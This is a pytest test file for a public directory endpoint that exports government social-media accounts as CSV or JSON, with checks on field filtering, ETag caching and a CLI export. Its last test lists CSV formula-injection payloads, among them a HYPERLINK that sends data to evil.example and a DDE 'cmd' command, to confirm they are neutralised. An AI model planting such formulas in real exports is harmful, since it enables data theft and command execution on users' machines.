"""The public directorio: no login, public fields only, rank filter, gestores toggle, ETag."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import select

from service.cli import main as cli_main
from service.db.models import Account
from service.settings import Settings
from tests.support.apps import AppFactory, Client, runtime_of
from tests.support.factories import create_account, handle_uid, insert_legacy_personal_account
from tests.support.public_body import seed_body

URL = "/v1/public/directory"
HEADER = [
    "Sujeto obligado",
    "Área",
    "Plataforma",
    "Tipo de cuenta",
    "Nombre de la cuenta",
    "URL",
    "Verificada",
    "Fecha de actualización",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


async def test_csv_is_public_filtered_and_cacheable(client: Client, admin: dict[str, str]) -> None:
    body = await seed_body(client, admin)
    rt = runtime_of(client)
    deep = await insert_legacy_personal_account(rt, body.proteccion, hierarchy_level=6)
    ended = await insert_legacy_personal_account(
        rt, body.proteccion, hierarchy_level=1, term_ends_on=date.today() - timedelta(days=2)
    )
    resp = await client.get(URL, params={"format": "csv"})  # no Authorization header
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["cache-control"] == "public, max-age=300"
    assert resp.content.startswith(b"\xef\xbb\xbf")
    etag = resp.headers["etag"]
    assert etag == f'"{hashlib.sha256(resp.content).hexdigest()}"'
    rows = _rows(resp.content.decode("utf-8"))
    assert rows[0] == HEADER
    names = {r[4]: r for r in rows[1:]}
    fb = names[body.handles["fb"]]
    assert fb[1] == body.comunicacion and fb[2] == "Facebook" and fb[3] == "oficial"
    assert fb[6] == "Sí" and date.fromisoformat(fb[7])
    assert names[body.handles["personal_ok"]][3] == "personal de servidor público"
    for hidden in (body.handles["personal_hidden"], body.handles["retired"], deep, ended):
        assert hidden not in names
    for secret in [*body.canaries, "•", "@santamaria.gob.mx", body.names["out"]]:
        assert secret not in resp.text

    cached = await client.get(URL, params={"format": "csv"}, headers={"If-None-Match": etag})
    assert cached.status_code == 304 and cached.content == b""
    assert cached.headers["etag"] == etag
    assert cached.headers["cache-control"] == "public, max-age=300"
    other = await client.get(URL, params={"format": "csv"}, headers={"If-None-Match": '"x"'})
    assert other.status_code == 200

    patched = await client.patch(
        f"/v1/accounts/{body.accounts['ig']}", json={"verified": False}, headers=admin
    )
    assert patched.status_code == 200
    changed = await client.get(URL, params={"format": "csv"}, headers={"If-None-Match": etag})
    assert changed.status_code == 200 and changed.headers["etag"] != etag


async def test_json_shape_and_default_format(client: Client, admin: dict[str, str]) -> None:
    body = await seed_body(client, admin)
    resp = await client.get(URL)
    assert resp.status_code == 200
    assert resp.headers["content-type"] == "application/json"
    assert resp.headers["etag"] == f'"{hashlib.sha256(resp.content).hexdigest()}"'
    entry = next(e for e in resp.json() if e["account_name"] == body.handles["x"])
    assert set(entry) == {
        "sujeto_obligado",
        "area",
        "platform",
        "kind",
        "account_name",
        "url",
        "verified",
        "updated_at",
    }
    assert entry["kind"] == "oficial" and entry["platform"] == "x"


async def test_gestores_shown_only_when_configured(
    client: Client, admin: dict[str, str], make_client: AppFactory
) -> None:
    body = await seed_body(client, admin)
    shown = await make_client(directory_show_gestores=True)
    resp = await shown.get(URL, params={"format": "csv"})
    rows = _rows(resp.text)
    assert rows[0] == [*HEADER, "Gestores con acceso a la contraseña"]
    by_name = {r[4]: r for r in rows[1:]}
    fb = by_name[body.handles["fb"]][8]
    assert f"{body.names['out']} (servidor público: Jefa del Departamento" in fb
    assert f"{body.names['ext']} (prestador de servicios externo: Estrategia Digital Ñandú" in fb
    assert body.names["dep"] not in resp.text  # departed: access ended, not published
    as_json = await shown.get(URL, params={"format": "json"})
    entry = next(e for e in as_json.json() if e["account_name"] == body.handles["fb"])
    assert {g["kind"] for g in entry["gestores"]} == {"servidor_publico", "externo"}
    assert set(entry["gestores"][0]) == {"name", "kind", "cargo", "provider"}
    hidden = await client.get(URL, params={"format": "csv"})
    assert body.names["out"] not in hidden.text
    assert hidden.headers["etag"] != resp.headers["etag"]


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_cli_export_writes_what_the_endpoint_serves(
    settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    monkeypatch.setenv("CUSTODIA_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("CUSTODIA_VAULT_ADDR", "http://127.0.0.1:1")  # Vault is not needed
    out = tmp_path / f"directorio.{fmt}"
    assert cli_main(["directory", "export", "--format", fmt, "--output", str(out)]) == 0
    data = out.read_bytes()
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf") and _rows(data.decode())[0] == HEADER
    else:
        assert data.startswith(b"[")


async def test_directory_reads_accounts_and_gestores_in_two_queries(
    client: Client, admin: dict[str, str], make_client: AppFactory
) -> None:
    """No N+1: the statement count does not grow with the number of accounts."""
    from sqlalchemy import event

    from service.directory.usecases import directory_rows

    await seed_body(client, admin)
    shown = await make_client(directory_show_gestores=True)
    rt = runtime_of(shown)
    statements: list[str] = []

    def count(*args: object) -> None:
        statements.append(str(args[2]))

    event.listen(rt.engine.sync_engine, "before_cursor_execute", count)
    try:
        rows = await directory_rows(rt)
    finally:
        event.remove(rt.engine.sync_engine, "before_cursor_execute", count)
    selects = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
    assert len(rows) > 5 and len(selects) == 2
    async with rt.sessions() as session:
        assert (await session.scalar(select(Account.id).limit(1))) is not None


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]


async def test_csv_cells_never_start_a_formula(client: Client, admin: dict[str, str]) -> None:
    handles = {}
    for formula in FORMULAS:
        handle = handle_uid("formula")
        await create_account(client, admin, handle=handle, area=formula, display_name=formula)
        handles[handle] = formula
    resp = await client.get(URL, params={"format": "csv"})
    assert resp.status_code == 200, resp.text
    by_handle = {row[4]: row for row in _rows(resp.content.decode("utf-8"))[1:]}
    for handle, formula in handles.items():
        # The área: shown as the text it is, never evaluated.
        assert by_handle[handle][1] == "'" + formula, by_handle[handle]
    for row in by_handle.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
